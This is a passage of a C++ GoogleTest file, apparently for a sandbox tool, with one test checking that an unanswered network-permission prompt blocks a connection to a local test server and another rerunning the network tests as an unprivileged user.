  fs::permissions(fake / "notify-send", fs::perms::owner_all);
  const char* path = std::getenv("PATH");
  const auto quiet = spawn_and_wait(
      {"env", "-u", "DBUS_SESSION_BUS_ADDRESS",
       "PATH=" + fake.string() + ":" + (path ? path : "/usr/bin:/bin"),
       "PARALLEX_HOME=" + (root_ / "home").string(), "XDG_RUNTIME_DIR=" + (root_ / "runtime").string(),
       "PARALLEX_TEST_RESOLVE=asked.test=127.0.0.1", kExe, "run", "--in", (root_ / "work").string(),
       "--ask=1", "--local-servers=" + port, "--", "sh", "-c", fetch},
      {}, root_ / "logs");
  EXPECT_NE(quiet.out.find("did not answer in time"), std::string::npos) << quiet.out << quiet.err;
  EXPECT_FALSE(fs::exists(root_ / "logs" / "notify-send-ran")) << "notify-send ran without a session bus";
  std::this_thread::sleep_for(500ms);
  const std::string after = slurp(shown);
  EXPECT_EQ(std::count(after.begin(), after.end(), '\n'), 1) << after;
  EXPECT_EQ(page.connections(), 0);
}

TEST(NetworkUnprivileged, AsUnprivilegedUser) {
  if (::getuid() != 0) GTEST_SKIP() << "already unprivileged: this whole run is the unprivileged pass";
  if (std::getenv("PX_NETWORK_CHILD")) GTEST_SKIP() << "nested";
  const auto user = px::test::unprivileged_user();
  if (!user) GTEST_SKIP() << "cannot create the unprivileged user pxtest (useradd failed)";
  const px::test::Pass pass = px::test::rerun_self_as(*user, "Network.*", "PX_NETWORK_CHILD");
  std::printf("---- the suite as %s (uid %u), %d skip lines ----\n%s---- end ----\n", user->name.c_str(),
              user->uid, pass.inner_skips, pass.output.c_str());
  EXPECT_TRUE(pass.passed()) << "the unprivileged pass failed (status " << pass.status << ")";
}

}  // namespace
